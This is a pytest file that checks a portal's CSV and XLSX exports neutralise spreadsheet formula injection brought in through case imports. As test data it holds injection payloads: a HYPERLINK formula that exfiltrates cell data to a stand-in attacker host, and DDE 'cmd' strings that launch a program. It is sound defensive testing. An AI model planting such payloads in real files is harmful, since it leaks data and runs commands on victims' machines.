"""Spreadsheet formula injection (issue 22): a row imported through `flask cases import` with a
formula in its reference, area and team reaches every CSV and XLSX the portal writes (the case export
and every table of the annual report, on the web and from the command line, published and internal
views) as text that no spreadsheet runs; numbers stay numbers; an export imports back unchanged."""

from __future__ import annotations

import csv
import io
import uuid
from pathlib import Path

import pytest
from openpyxl import load_workbook

from portal.casework.import_format import COLUMNS
from portal.text import FORMULA_START, from_spreadsheet_cell, spreadsheet_cell

YEAR = 2025  # the financial year 2025-26
REFERENCE = '=HYPERLINK("http://evil.example/?x="&C2,"Open")'
AREA = "@SUM(1+1)*cmd|' /C calc'!A0"
TEAM = "=1+cmd|' /C calc'!A0"
CATEGORY = "\t=2+5"  # a tab before the formula: the import strips it; no export may write "=2+5"


def _file(rows: list[dict[str, str]]) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(COLUMNS), lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({c: row.get(c, "") for c in COLUMNS})
    return out.getvalue()


def _payload_rows(tag: str) -> list[dict[str, str]]:
    base = {"received": "2025-06-02", "kind": "complaint", "route": "statutory", "channel": "email",
            "from_young_person": "Y", "age": "15", "gender": "female", "area": AREA, "team": TEAM,
            "category": CATEGORY, "resolution": "-1+1", "stage1_responded": "2025-06-10",
            "stage1_outcome": "upheld"}
    return [{**base, "reference": REFERENCE}, *({**base, "reference": f"{tag}-{i}"} for i in range(6))]


@pytest.fixture
def imported(app, tmp_path):
    tag = uuid.uuid4().hex[:8]
    path = tmp_path / "payload.csv"
    path.write_text(_file(_payload_rows(tag)), encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["cases", "import", str(path)])
    assert result.exit_code == 0, result.output
    return tag


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_no_formula(cells: list[object], where: str) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_START), f"{where}: {cell!r}"


def _assert_xlsx_safe(data: bytes, where: str) -> list[object]:
    book = load_workbook(io.BytesIO(data))
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{where} {sheet.title}!{cell.coordinate}: {cell.value!r}"
                values.append(cell.value)
    _assert_no_formula(values, where)
    return values


def test_the_one_function():
    for payload in ("=1+1", "+1", "-1+1", "@SUM(1)", "\t=2+5", "\r=2+5", "\uff1d1+1", "=1+cmd|' /C calc'!A0"):
        assert spreadsheet_cell(payload) == "'" + payload
        assert from_spreadsheet_cell(spreadsheet_cell(payload)) == payload
    # The annual export used to let through any value whose second character was a digit.
    assert spreadsheet_cell("=1+2") == "'=1+2"
    assert spreadsheet_cell("-5") == "'-5"  # text, even when it looks like a number
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell(2.5) == 2.5  # numbers stay numbers
    assert spreadsheet_cell("Team North") == "Team North" and spreadsheet_cell(None) == ""
    assert spreadsheet_cell("a\x01b") == "ab"  # a control character would make an XLSX file unreadable
    assert from_spreadsheet_cell("'quoted") == "'quoted"


def test_every_export_writes_the_payload_as_text(app, client, make_user, imported, tmp_path):
    client.sign_in(make_user("crs_officer"))
    seen: set[str] = set()

    # The case export (IMPORT.md format): web and `flask cases export`.
    web = client.get("/staff/reports/cases.csv")
    assert web.status_code == 200
    cli_out = tmp_path / "cases.csv"
    result = app.test_cli_runner().invoke(args=["cases", "export", "--output", str(cli_out)])
    assert result.exit_code == 0, result.output
    for where, text in (("cases.csv", web.get_data(as_text=True)),
                        ("flask cases export", cli_out.read_text(encoding="utf-8"))):
        cells = _csv_cells(text)
        _assert_no_formula(cells, where)
        assert "'" + REFERENCE in cells and "'" + AREA in cells and "'" + TEAM in cells
        assert "'=2+5" in cells and "=2+5" not in cells
        seen.update(cells)

    # Every table of the annual report as CSV and XLSX, published and internal, web and command line.
    from portal.db import db
    from portal.reports import exports, publishing

    report = publishing.report_for(db.session.connection(), YEAR, apart=app.config["REPORT_YEARS_APART"])
    keys = [name.removesuffix(".csv") for name in exports.csv_files(report, internal=True)]
    assert len(keys) >= 19
    for view in ("", "&view=internal"):
        for key in keys:
            page = client.get(f"/staff/reports/annual.csv?year={YEAR}&table={key}{view}")
            assert page.status_code == 200, key
            cells = _csv_cells(page.get_data(as_text=True))
            _assert_no_formula(cells, f"annual.csv {key}{view}")
            seen.update(cells)
        xlsx = client.get(f"/staff/reports/annual.xlsx?year={YEAR}{view}")
        assert xlsx.status_code == 200
        values = _assert_xlsx_safe(xlsx.data, f"annual.xlsx{view}")
        seen.update(v for v in values if isinstance(v, str))
        if view:
            # Numbers are numbers in the workbook: the table of complaints recorded counts the 7 cases.
            assert any(isinstance(v, int) and v >= 7 for v in values)
    runner = app.test_cli_runner()
    for flag in ([], ["--internal"]):
        folder = tmp_path / f"csv{len(flag)}"
        result = runner.invoke(args=["report", "annual", "--year", str(YEAR), "--format", "csv",
                                     "--output", str(folder), *flag])
        assert result.exit_code == 0, result.output
        for path in folder.glob("*.csv"):
            _assert_no_formula(_csv_cells(path.read_text(encoding="utf-8")), f"flask report annual {path.name}")
        book = tmp_path / f"book{len(flag)}.xlsx"
        result = runner.invoke(args=["report", "annual", "--year", str(YEAR), "--format", "xlsx",
                                     "--output", str(book), *flag])
        assert result.exit_code == 0, result.output
        _assert_xlsx_safe(Path(book).read_bytes(), f"flask report annual xlsx {flag}")
    # The team and the area reached the report's tables (so the walk above checked them).
    assert "'" + TEAM in seen and "'" + AREA in seen


def test_the_export_imports_back_unchanged(app, client, make_user, imported, tmp_path):
    client.sign_in(make_user("crs_officer"))
    text = client.get("/staff/reports/cases.csv").get_data(as_text=True)
    path = tmp_path / "again.csv"
    path.write_text(text, encoding="utf-8")
    result = app.test_cli_runner().invoke(args=["cases", "import", str(path)])
    assert result.exit_code == 0, result.output
    assert ": 0 cases imported, 0 updated, " in result.output, result.output
